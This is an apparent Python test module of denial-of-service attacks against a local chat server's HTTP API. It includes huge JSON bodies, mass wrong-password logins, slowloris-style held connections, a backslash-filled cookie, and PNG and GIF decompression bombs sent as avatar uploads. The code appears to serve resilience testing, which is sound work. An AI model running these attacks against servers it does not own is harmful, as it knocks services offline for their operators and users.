"""Attacks by HTTP: bodies, headers, connections and pictures."""

import asyncio
import itertools
import resource
import struct
import zlib

from .attacks import COSTLY, attack
from .hostile import Target, by_requests, json_request, request

BOUNDARY = "parley-attack"


# --- bodies and headers ----------------------------------------------------------------------------------------------


@attack
async def lists_in_bodies(target: Target) -> None:
    await by_requests(target, json_request("POST", "/api/chats", target.token, participants=[""] * 330_000), at_once=4)


@attack
async def costly_text_by_rest(target: Target) -> None:
    path = f"/api/chats/{target.chat}/messages"
    await by_requests(target, *(json_request("POST", path, target.token, content=text) for text in COSTLY))


@attack
async def wrong_passwords(target: Target) -> None:
    tries = (
        json_request("POST", "/api/login", identifier=person, password="a wrong password") for person in target.people
    )
    await by_requests(target, *tries, at_once=40)


@attack
async def cookies_of_backslashes(target: Target) -> None:
    cookie = {"Cookie": 'sessionid="' + "\\" * 60_000 + '"'}
    await by_requests(target, request("GET", "/login/", headers=cookie), at_once=4)


@attack
async def headers_without_end(target: Target) -> None:
    async def go_on(data: bytes) -> None:
        while True:
            try:
                _, writer = await asyncio.open_connection("127.0.0.1", target.port)
                writer.write(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
                while not writer.is_closing():
                    writer.write(data)
                    await writer.drain()
                    await asyncio.sleep(0.01)
            except OSError:
                pass
            target.answers["cut"] += 1
            await asyncio.sleep(0.1)

    await asyncio.gather(*(go_on(b"X-Filling: " + b"x" * 8_000 + b"\r\n") for _ in range(20)))


async def held(target: Target, data: bytes, count: int) -> None:
    """So many connections that send this, and then no more."""
    resource.setrlimit(
        resource.RLIMIT_NOFILE, (min(8_192, hard := resource.getrlimit(resource.RLIMIT_NOFILE)[1]), hard)
    )
    gate = asyncio.Semaphore(50)

    async def hold() -> None:
        while True:
            try:
                async with gate:
                    reader, writer = await asyncio.open_connection("127.0.0.1", target.port)
                    writer.write(data)
                    await writer.drain()
                target.answers["open"] += 1
                answer = await reader.read(4_096)
                target.answers[answer[9:12].decode() or "cut"] += 1
            except OSError:
                target.answers["refused"] += 1
            await asyncio.sleep(1)

    await asyncio.gather(*(hold() for _ in range(count)))


@attack
async def bodies_sent_by_half(target: Target) -> None:
    whole = request("POST", "/api/login", body=b"x" * 2_500_000, headers={"Content-Type": "application/json"})
    await held(target, whole[:-1], 120)


@attack
async def connections_that_say_nothing(target: Target) -> None:
    await held(target, b"GET / HTTP/1.1\r\n", 2_000)


# --- pictures --------------------------------------------------------------------------------------------------------


def huge_png(width: int = 1, height: int = 39_999_999) -> bytes:
    """A picture of one bit a pixel, all of them alike: 78 KB."""
    rows = zlib.compressobj(9)
    line = b"\0" * (1 + (width + 7) // 8)
    data = b"".join(rows.compress(line * 100_000) for _ in range(height // 100_000))
    data += rows.compress(line * (height % 100_000)) + rows.flush()
    header = struct.pack("!IIBBBBB", width, height, 1, 0, 0, 0, 0)
    chunks = ((b"IHDR", header), (b"IDAT", data), (b"IEND", b""))
    packed = (
        struct.pack("!I", len(body)) + kind + body + struct.pack("!I", zlib.crc32(kind + body)) for kind, body in chunks
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(packed)


def huge_gif(width: int = 8_900, height: int = 8_900) -> bytes:
    """A picture of 35 bytes that says it is so large."""
    size = struct.pack("<HH", width, height)
    return b"GIF89a" + size + b"\x80\0\0" + b"\0\0\0\xff\xff\xff" + b"," + b"\0" * 4 + size + b"\0\x02\x02\x44\x01\0;"


def form(method: str, path: str, picture: bytes, token: str = "", **fields: str) -> bytes:
    """A form with a picture."""
    parts = [part(f'name="{name}"', text.encode()) for name, text in fields.items()]
    parts.append(part('name="avatar"; filename="a.png"\r\nContent-Type: image/png', picture))
    headers = {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}
    return request(method, path, body=b"".join(parts) + f"--{BOUNDARY}--\r\n".encode(), headers=headers, token=token)


def part(about: str, content: bytes) -> bytes:
    return f"--{BOUNDARY}\r\nContent-Disposition: form-data; {about}\r\n\r\n".encode() + content + b"\r\n"


@attack
async def pictures_of_people_who_register(target: Target) -> None:
    pictures = huge_png(), huge_gif()
    forms = (
        form("POST", "/api/register", picture, username=f"picture{number}", password="a long password")
        for number, picture in zip(range(40), itertools.cycle(pictures), strict=False)
    )
    await by_requests(target, *forms, at_once=6)


@attack
async def pictures_of_oneself(target: Target) -> None:
    pictures = huge_png(), huge_gif()
    await by_requests(target, *(form("PATCH", "/api/profile", one, target.token) for one in pictures), at_once=6)
